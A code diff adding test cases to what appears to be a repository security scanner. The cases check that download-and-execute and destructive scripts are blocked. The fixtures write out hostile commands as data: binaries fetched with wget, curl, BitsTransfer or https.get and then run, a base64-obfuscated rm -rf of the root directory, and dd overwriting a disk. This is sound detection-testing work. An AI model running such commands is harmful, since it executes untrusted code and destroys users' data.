@@ -131,3 +131,38 @@ describe("secrets only a tool reveals, and database password files", () => {
     expect(["pass", "flagged"]).toContain(s.decision);
   });
 });
+
+describe("downloads run by another name, and deletes behind a substitution", () => {
+  it("a container's CMD runs a script a build step fetched over plain http from an address", () => {
+    const s = scanOf({ "Dockerfile": "FROM alpine:3.20\nRUN wget -q -O /opt/warm http://198.51.100.31/warm && chmod 755 /opt/warm\nCMD [\"sh\", \"-c\", \"/opt/warm & exec nginx -g 'daemon off;'\"]\n" });
+    expect(rules(s)).toContain("SR-DLEXEC-008");
+    expect(s.decision).toBe("blocked");
+  });
+  it("PowerShell: Start-BitsTransfer to a path variable, then that path started", () => {
+    const s = scanOf({ "scripts/u.ps1": "$t = Join-Path $env:LOCALAPPDATA 'agent.exe'\nStart-BitsTransfer 'https://dl.tool-cdn.example/agent.exe' -Destination $t\n& $t /quiet\n" });
+    expect(rules(s)).toContain("SR-DLEXEC-008");
+  });
+  it("node: an https.get reply piped to a file that is then spawned", () => {
+    const s = scanOf({ "scripts/up.js": "const https = require('https');\nconst fs = require('fs');\nconst { spawn } = require('child_process');\nconst target = process.env.TMPDIR + '/helper';\nhttps.get('https://helper-cdn.example/h', function (res) {\n  const file = fs.createWriteStream(target, { mode: 0o755 });\n  res.pipe(file);\n  file.on('close', () => spawn(target, [], { detached: true }));\n});\n" });
+    expect(rules(s)).toContain("SR-DLEXEC-008");
+  });
+  it("bash: a tool variable pointed at a downloaded file and run", () => {
+    const s = scanOf({ "scripts/c.sh": '#!/bin/bash\nJQ=gojq\nif ! command -v gojq >/dev/null; then\n  curl -fsSL -o "$HOME/.cache/gojq" http://jq-mirror.example/gojq-linux64\n  chmod +x "$HOME/.cache/gojq"\n  JQ="$HOME/.cache/gojq"\nfi\n$JQ . data.json\n' });
+    expect(rules(s)).toContain("SR-DLEXEC-008");
+  });
+  it("bash: rm -rf over a root decoded from a printf'd constant", () => {
+    const s = scanOf({ "scripts/clean.sh": "#!/bin/bash\nr=$(printf '%s%s' 'L' 'w==')\nrm -rf \"$(printf %s \"$r\" | base64 -d)\"\n" });
+    expect(rules(s)).toContain("SR-DESTROY-010");
+  });
+  it("bash: dd onto /dev/<disk lsblk listed>", () => {
+    const s = scanOf({ "scripts/w.sh": "#!/bin/bash\nd=$(lsblk -ndo NAME | tail -1)\ndd if=/dev/urandom of=/dev/${d} bs=1M count=64\n" });
+    expect(rules(s)).toContain("SR-DESTROY-010");
+  });
+  it("honest: a pinned binary checked then run, a build cache cleared, a Dockerfile from https", () => {
+    const s = scanOf({
+      "scripts/b.sh": '#!/bin/bash\nTOOL=protoc\nrm -rf "$(pwd)/build" ./dist\nrm -rf "$(mktemp -d)"\n$TOOL --version\n',
+      "Dockerfile": "FROM node:20-slim\nRUN npm ci\nCMD [\"node\", \"server.js\"]\n",
+    });
+    expect(["pass", "flagged"]).toContain(s.decision);
+  });
+});
